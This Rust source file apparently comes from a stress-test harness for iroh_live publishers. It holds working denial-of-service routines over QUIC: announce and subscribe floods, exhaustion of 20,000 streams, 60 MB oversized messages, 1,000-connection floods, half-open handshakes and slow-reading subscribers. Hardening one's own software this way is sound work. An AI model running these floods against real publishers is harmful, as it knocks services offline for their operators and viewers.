//! What a peer that dials can do to a publisher.

use std::{collections::HashSet, net::SocketAddr, time::Duration};

use iroh_live::{
    LiveTicket,
    iroh::{
        Endpoint, EndpointAddr,
        endpoint::{Connection, QuicTransportConfig, RecvStream, SendStream},
    },
};
use tokio::{net::UdpSocket, task::JoinSet, time::timeout};

use super::{endpoint, generous, idle_timeout, say_closed, wait_closed};
use crate::wire::{ALPN, ANNOUNCE, SUBSCRIBE, message, put_bytes, put_varint, varint};

pub(super) async fn attack(attack: &str, ticket: &LiveTicket) {
    let target = ticket.addr().clone();
    match attack {
        "announces" => announces(target).await,
        "subscribes" => subscribes(target).await,
        "streams" => streams(target).await,
        "unread" => unread(target, ticket.name()).await,
        "messages" => messages(target).await,
        "one-key" => one_key(target).await,
        "many-keys" => many_keys(target).await,
        "half-open" => half_open(target).await,
        "reads-nothing" => stalled(target, ticket.name(), 1, 10).await,
        "stalled" => stalled(target, ticket.name(), 100, 3).await,
        _ => panic!("there is no attack {attack} on publishers"),
    }
}

async fn connect(endpoint: &Endpoint, target: &EndpointAddr) -> Option<Connection> {
    let connecting = endpoint.connect(target.clone(), ALPN);
    match timeout(Duration::from_secs(30), connecting).await {
        Ok(Ok(connection)) => Some(connection),
        Ok(Err(error)) => {
            println!("closed: {error}");
            None
        }
        Err(_) => None,
    }
}

/// One connection, with nothing in the way of what it wants to do.
async fn one(target: &EndpointAddr) -> (Endpoint, Connection) {
    let endpoint = endpoint(generous()).await;
    let connection = connect(&endpoint, target).await.expect("it is let in");
    println!("under way");
    (endpoint, connection)
}

/// A SUBSCRIBE to a track, from the newest group on.
fn subscribe(id: u64, broadcast: &str, track: &str) -> Vec<u8> {
    let mut body = Vec::new();
    put_varint(&mut body, id);
    put_bytes(&mut body, broadcast.as_bytes());
    put_bytes(&mut body, track.as_bytes());
    // Priority, order, greatest age, start and end.
    body.extend([0, 0]);
    put_varint(&mut body, 60_000);
    body.extend([0, 0]);
    let mut out = Vec::new();
    put_varint(&mut out, SUBSCRIBE);
    put_bytes(&mut out, &body);
    out
}

/// Answers the question what there is with 100 000 names.
async fn announces(target: EndpointAddr) {
    let (_endpoint, connection) = one(&target).await;
    let attacking = async {
        let (mut send, mut receive) = connection.accept_bi().await.ok()?;
        if varint(&mut receive).await? != ANNOUNCE {
            return None;
        }
        message(&mut receive).await?;
        for thousand in 0..100 {
            let mut batch = Vec::new();
            for number in 0..1000 {
                // Active, the name, no hops.
                let mut body = vec![1];
                put_bytes(&mut body, format!("name-{thousand}-{number}").as_bytes());
                body.push(0);
                put_bytes(&mut batch, &body);
            }
            send.write_all(&batch).await.ok()?;
        }
        wait_closed(&connection).await;
        Some(())
    };
    if attacking.await.is_none() {
        wait_closed(&connection).await;
    }
}

/// Asks for 100 000 names that are not there, as many at a time as it may.
async fn subscribes(target: EndpointAddr) {
    let (_endpoint, connection) = one(&target).await;
    for id in 0..100_000 {
        // It is answered, sooner or later, and makes room for the next.
        let opened = open_within(Duration::from_secs(30), &connection).await;
        let Some((mut send, mut receive)) = opened else {
            break;
        };
        let words = subscribe(id, &format!("none-{id}"), "video_0");
        tokio::spawn(async move {
            let _ = send.write_all(&words).await;
            // Whoever ends the request before the answer has taken it back.
            let _ = receive.read_to_end(100).await;
        });
    }
    wait_closed(&connection).await;
}

async fn open_within(
    patience: Duration,
    connection: &Connection,
) -> Option<(SendStream, RecvStream)> {
    timeout(patience, connection.open_bi()).await.ok()?.ok()
}

/// A stream both ways, unless the other side has had enough.
async fn open(connection: &Connection) -> Option<(SendStream, RecvStream)> {
    open_within(Duration::from_secs(1), connection).await
}

/// Opens 20 000 streams each way, says the first word on each and never ends it.
async fn streams(target: EndpointAddr) {
    let (_endpoint, connection) = one(&target).await;
    let mut kept = Vec::new();
    for _ in 0..20_000 {
        let Some((mut send, receive)) = open(&connection).await else {
            break;
        };
        if send.write_all(&[2, 40, 0]).await.is_err() {
            break;
        }
        kept.push((send, receive));
    }
    let mut sent = Vec::new();
    for _ in 0..20_000 {
        let opened = timeout(Duration::from_secs(1), connection.open_uni()).await;
        let Ok(Ok(mut send)) = opened else { break };
        if send.write_all(&[0, 40, 0]).await.is_err() {
            break;
        }
        sent.push(send);
    }
    println!("open: {} and {}", kept.len(), sent.len());
    wait_closed(&connection).await;
    std::mem::forget((kept, sent));
}

/// Asks 20 000 times for a track that is there, and reads none of it.
async fn unread(target: EndpointAddr, name: &str) {
    let (_endpoint, connection) = one(&target).await;
    let mut kept = Vec::new();
    for id in 0..20_000 {
        let Some((mut send, receive)) = open(&connection).await else {
            break;
        };
        if send
            .write_all(&subscribe(id, name, "video_0"))
            .await
            .is_err()
        {
            break;
        }
        kept.push((send, receive));
    }
    println!("open: {}", kept.len());
    wait_closed(&connection).await;
    std::mem::forget(kept);
}

/// Sends messages of 60 MB, one on each of a hundred streams.
async fn messages(target: EndpointAddr) {
    let (_endpoint, connection) = one(&target).await;
    let mut sending = JoinSet::new();
    for number in 0..100 {
        let connection = connection.clone();
        sending.spawn(async move {
            let mut words = vec![[ANNOUNCE, SUBSCRIBE][number % 2] as u8];
            put_varint(&mut words, 60_000_000);
            let (mut send, receive) = open(&connection).await?;
            send.write_all(&words).await.ok()?;
            for _ in 0..60 {
                send.write_all(&[0; 1_000_000]).await.ok()?;
            }
            drop(receive);
            Some(())
        });
    }
    let all = async { while sending.join_next().await.is_some() {} };
    let _ = timeout(Duration::from_secs(8), all).await;
    wait_closed(&connection).await;
}

/// Keeps connections, and says how each that was ended was ended, no more than once in the same words.
async fn keep(mut connecting: JoinSet<Option<Connection>>) {
    let mut kept = Vec::new();
    while let Some(connection) = connecting.join_next().await {
        kept.extend(connection.ok().flatten());
    }
    tokio::time::sleep(Duration::from_secs(1)).await;
    let ended: Vec<_> = kept.iter().filter_map(Connection::close_reason).collect();
    let mut said = HashSet::new();
    for error in &ended {
        if said.insert(error.to_string()) {
            say_closed(error);
        }
    }
    println!(
        "connections: {}, of which ended: {}",
        kept.len(),
        ended.len()
    );
    std::mem::forget(kept);
}

/// 1000 connections of one identity.
async fn one_key(target: EndpointAddr) {
    let endpoint = endpoint(generous()).await;
    println!("under way");
    let mut connecting = JoinSet::new();
    for _ in 0..1000 {
        let (endpoint, target) = (endpoint.clone(), target.clone());
        connecting.spawn(async move { connect(&endpoint, &target).await });
        tokio::time::sleep(Duration::from_millis(1)).await;
    }
    keep(connecting).await;
    std::mem::forget(endpoint);
}

/// 1000 connections of as many identities.
async fn many_keys(target: EndpointAddr) {
    println!("under way");
    let mut connecting = JoinSet::new();
    for _ in 0..1000 {
        let endpoint = endpoint(generous()).await;
        let target = target.clone();
        connecting.spawn(async move {
            let connection = connect(&endpoint, &target).await;
            std::mem::forget(endpoint);
            connection
        });
    }
    keep(connecting).await;
}

/// 1000 handshakes that begin and go no further: what the other side answers never arrives.
async fn half_open(target: EndpointAddr) {
    let victim = target.ip_addrs().next().copied().expect("it has one");
    let forward = UdpSocket::bind(SocketAddr::from(([127, 0, 0, 1], 0))).await;
    let forward = forward.expect("the loopback interface has free ports");
    let address = forward.local_addr().expect("it is bound");
    let through = EndpointAddr::new(target.id).with_ip_addr(address);
    let endpoint = endpoint(generous()).await;
    println!("under way");
    tokio::spawn(async move {
        let mut datagram = vec![0; 2000];
        while let Ok((size, from)) = forward.recv_from(&mut datagram).await {
            if from != victim {
                let _ = forward.send_to(&datagram[..size], victim).await;
            }
        }
    });
    let mut connecting = JoinSet::new();
    for _ in 0..1000 {
        let (endpoint, through) = (endpoint.clone(), through.clone());
        connecting.spawn(async move { endpoint.connect(through, ALPN).await.is_ok() });
        tokio::time::sleep(Duration::from_millis(1)).await;
    }
    tokio::time::sleep(Duration::from_secs(2)).await;
    std::mem::forget((connecting, endpoint));
}

/// So many viewers of a track who read nothing of it.
async fn stalled(target: EndpointAddr, name: &str, viewers: usize, seconds: u64) {
    // The other side may send a kilobyte, and then no more.
    let deaf = || {
        QuicTransportConfig::builder()
            .stream_receive_window(1000_u32.into())
            .receive_window(1000_u32.into())
            .max_idle_timeout(Some(idle_timeout()))
            .keep_alive_interval(Duration::from_secs(1))
            .build()
    };
    println!("under way");
    let mut connecting = JoinSet::new();
    for _ in 0..viewers {
        let endpoint = endpoint(deaf()).await;
        let (target, words) = (target.clone(), subscribe(0, name, "video_0"));
        connecting.spawn(async move {
            let connection = connect(&endpoint, &target).await?;
            let (mut send, receive) = open(&connection).await?;
            send.write_all(&words).await.ok()?;
            std::mem::forget((endpoint, send, receive));
            Some(connection)
        });
        // No more handshakes at once than anybody may have.
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    keep(connecting).await;
    tokio::time::sleep(Duration::from_secs(seconds)).await;
}
